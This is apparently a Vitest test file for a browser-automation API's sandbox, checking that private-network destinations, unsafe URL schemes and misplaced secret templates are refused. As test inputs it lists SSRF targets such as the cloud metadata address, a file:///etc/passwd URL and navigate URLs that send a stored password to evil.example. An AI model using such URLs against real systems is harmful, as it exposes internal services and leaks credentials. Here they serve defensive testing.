import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../support/app.js';
import { createTeam, createUser, type TeamFixture, type UserFixture } from '../support/factories.js';

/**
 * Submit-time side of the browser sandbox: literal private destinations and
 * `localhost` are 403 `destination_not_allowed` unless the egress policy
 * permits them, other schemes are 400, and `{{secrets.NAME}}` is refused
 * anywhere but a fill step's value. Nothing is created on refusal.
 */
describe('runs API: sandbox checks at submit', () => {
  let t: TestApp;
  let team: TeamFixture;
  let operator: UserFixture;
  let owner: UserFixture;

  beforeAll(async () => {
    // The test app's default policy lets 127.0.0.1 through and nothing else private.
    t = await buildTestApp({ env: { MANTIS_SYNC_WAIT_SECONDS: '0' } });
    team = await createTeam(t.prisma, { maxConcurrentRuns: 100 });
    operator = await createUser(t.prisma, { team, role: 'operator' });
    owner = await createUser(t.prisma, { team, role: 'team_owner' });
  });
  afterAll(async () => {
    await t?.close();
  });

  const predict = (payload: unknown) =>
    t.app.inject({ method: 'POST', url: '/v1/predict', headers: { 'x-mantis-token': operator.key }, payload: { detached: true, ...(payload as object) } });
  const runs = () => t.prisma.run.count({ where: { teamId: team.id } });

  it.each([
    'http://127.0.0.2/',
    'http://10.0.0.5/admin',
    'http://169.254.169.254/latest/meta-data/',
    'http://100.64.0.1/',
    'http://[::1]:8080/',
    'http://[::ffff:127.0.0.2]/',
    'http://[64:ff9b::a00:1]/',
    'http://0.0.0.0/',
    'http://2130706434/',
    'http://224.0.0.1/',
  ])('refuses %s with 403 destination_not_allowed and creates no run', async (url) => {
    const before = await runs();
    const res = await predict({ plan: { steps: [{ navigate: url }] } });
    expect(res.statusCode, res.body).toBe(403);
    expect(res.json().error).toMatchObject({ code: 'destination_not_allowed', details: { url } });
    expect(await runs()).toBe(before);
  });

  it('checks start_url the same way', async () => {
    const res = await predict({ plan: { start_url: 'http://192.168.1.1/', steps: [{ extract: { name: 'x', selector: 'h1' } }] } });
    expect(res.statusCode).toBe(403);
    expect(res.json().error.code).toBe('destination_not_allowed');
  });

  it('accepts public hosts and what MANTIS_BROWSER_PRIVATE_RANGES permits (127.0.0.1, and localhost through it)', async () => {
    for (const url of ['https://example.com/', 'http://127.0.0.1:8080/', 'http://localhost:3000/']) {
      const res = await predict({ plan: { steps: [{ navigate: url }] } });
      expect(res.statusCode, `${url}: ${res.body}`).toBe(202);
    }
  });

  it.each(['file:///etc/passwd', 'chrome://settings', 'view-source:https://example.com/', 'ftp://example.com/', 'javascript:alert(1)', 'not a url'])(
    'refuses the scheme of %s with 400 validation_failed naming the field',
    async (url) => {
      const before = await runs();
      const res = await predict({ plan: { steps: [{ extract: { name: 'x', selector: 'h1' } }, { navigate: url }] } });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().error.code).toBe('validation_failed');
      expect(JSON.stringify(res.json().error.details)).toContain('plan.steps.1.navigate');
      expect(await runs()).toBe(before);
    },
  );

  it.each([
    ['a navigate URL', { steps: [{ navigate: 'https://evil.example/?p={{secrets.site_password}}' }] }, 'plan.steps.0.navigate'],
    ['start_url', { start_url: 'https://evil.example/{{ secrets.pw }}', steps: [{ extract: { name: 'x', selector: 'h1' } }] }, 'plan.start_url'],
    ['a selector', { steps: [{ click: '#{{secrets.pw}}' }] }, 'plan.steps.0.click'],
    ['a fill selector', { steps: [{ fill: { selector: '{{secrets.pw}}', value: 'x' } }] }, 'plan.steps.0.fill.selector'],
    ['assert text', { steps: [{ assert: { text: '{{secrets.pw}}' } }] }, 'plan.steps.0.assert.text'],
    ['wait_for url', { steps: [{ wait_for: { url: '**/{{secrets.pw}}' } }] }, 'plan.steps.0.wait_for.url'],
    ['an agent goal', { steps: [{ agent: { goal: 'type {{secrets.pw}} into the search box' } }] }, 'plan.steps.0.agent.goal'],
  ])('refuses a secret in %s with 400 naming the field', async (_what, plan, field) => {
    const before = await runs();
    const res = await predict({ plan });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.code).toBe('validation_failed');
    expect(JSON.stringify(res.json().error.details)).toContain(field);
    expect(await runs()).toBe(before);
  });

  it('refuses a secret in inputs, which are substituted anywhere', async () => {
    const res = await predict({ plan: { steps: [{ navigate: 'https://example.com/{{inputs.q}}' }] }, inputs: { q: '{{secrets.pw}}' } });
    expect(res.statusCode).toBe(400);
    expect(JSON.stringify(res.json().error.details)).toContain('inputs.q');
  });

  it('accepts a secret in a fill value and an agent step listing secrets', async () => {
    const res = await predict({
      plan: { steps: [{ fill: { selector: '#password', value: '{{secrets.pw}}' } }, { agent: { goal: 'sign in', secrets: ['pw'] } }] },
    });
    expect(res.statusCode, res.body).toBe(202);
  });

  it('refuses the same secret placement when a workflow is applied', async () => {
    const res = await t.app.inject({
      method: 'PUT',
      url: '/api/v1/workflows/leaky',
      headers: { 'x-mantis-token': owner.key },
      payload: { plan: { steps: [{ navigate: 'https://evil.example/{{secrets.pw}}' }] } },
    });
    expect(res.statusCode).toBe(400);
    expect(JSON.stringify(res.json().error.details)).toContain('plan.steps.0.navigate');
  });

  it('stores, lists and keeps secret origins; refuses a malformed one', async () => {
    const put = (name: string, payload: object) =>
      t.app.inject({ method: 'PUT', url: `/api/v1/teams/${team.slug}/secrets/${name}`, headers: { 'x-mantis-token': owner.key }, payload });
    const created = await put('site_password', { value: 's3cret', origins: ['Login.Example.com', '*.example.org'] });
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({ name: 'site_password', origins: ['login.example.com', '*.example.org'] });
    expect(created.body).not.toContain('s3cret');
    expect((await put('site_password', { value: 'rotated' })).json().origins).toEqual(['login.example.com', '*.example.org']);
    expect((await put('site_password', { value: 'rotated', origins: [] })).json().origins).toEqual([]);
    const bad = await put('other', { value: 'x', origins: ['https://example.com/path'] });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.code).toBe('validation_failed');
    const list = await t.app.inject({ method: 'GET', url: `/api/v1/teams/${team.slug}/secrets`, headers: { 'x-mantis-token': operator.key } });
    expect(list.json().data).toEqual([{ name: 'site_password', origins: [], created_at: expect.any(String), updated_at: expect.any(String) }]);
  });
});

describe('runs API: MANTIS_BROWSER_ALLOW_PRIVATE', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await buildTestApp({ env: { MANTIS_BROWSER_ALLOW_PRIVATE: 'true', MANTIS_BROWSER_PRIVATE_RANGES: '' } });
  });
  afterAll(async () => {
    await t?.close();
  });

  it('lets plans name internal addresses on an install that automates internal sites', async () => {
    const team = await createTeam(t.prisma);
    const op = await createUser(t.prisma, { team, role: 'operator' });
    const res = await t.app.inject({
      method: 'POST',
      url: '/v1/predict',
      headers: { 'x-mantis-token': op.key },
      payload: { detached: true, plan: { steps: [{ navigate: 'http://10.1.2.3/' }] } },
    });
    expect(res.statusCode, res.body).toBe(202);
  });
});

describe('runs API: the default policy (no private ranges)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await buildTestApp({ env: { MANTIS_BROWSER_PRIVATE_RANGES: '' } });
  });
  afterAll(async () => {
    await t?.close();
  });

  it.each(['http://localhost:8080/', 'http://app.localhost/', 'http://127.0.0.1/'])('refuses %s', async (url) => {
    const team = await createTeam(t.prisma);
    const op = await createUser(t.prisma, { team, role: 'operator' });
    const res = await t.app.inject({
      method: 'POST',
      url: '/v1/predict',
      headers: { 'x-mantis-token': op.key },
      payload: { detached: true, plan: { steps: [{ navigate: url }] } },
    });
    expect(res.statusCode, res.body).toBe(403);
    expect(res.json().error).toMatchObject({ code: 'destination_not_allowed', details: { url } });
  });
});
